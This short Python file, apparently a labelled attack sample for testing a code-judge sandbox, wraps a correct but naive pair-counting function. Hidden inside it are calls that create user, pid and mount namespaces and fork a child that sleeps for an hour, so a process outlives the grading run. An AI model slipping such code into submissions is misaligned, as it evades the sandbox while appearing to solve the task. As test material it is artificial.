# /// attack
# aim = "Makes a user namespace, in which it is root, and in that a pid namespace whose first process stays."
# outcome = ["AC"]
# naive = "process"
# ///

import os
import time


def count_slowly(numbers, target):
    n = len(numbers)
    return sum(numbers[i] + numbers[j] == target for i in range(n) for j in range(i + 1, n))


NEW_USER, NEW_PID, NEW_MOUNTS = 0x10000000, 0x20000000, 0x00020000


def unshare(flags):
    try:
        os.unshare(flags)
    except AttributeError:
        import ctypes

        if ctypes.CDLL(None).unshare(flags):
            raise OSError("unshare")


def pair_count(numbers, target):
    try:
        unshare(NEW_USER | NEW_PID | NEW_MOUNTS)
        if os.fork() == 0:
            time.sleep(3600)
    except (OSError, ImportError, AttributeError):
        pass
    return count_slowly(numbers, target)
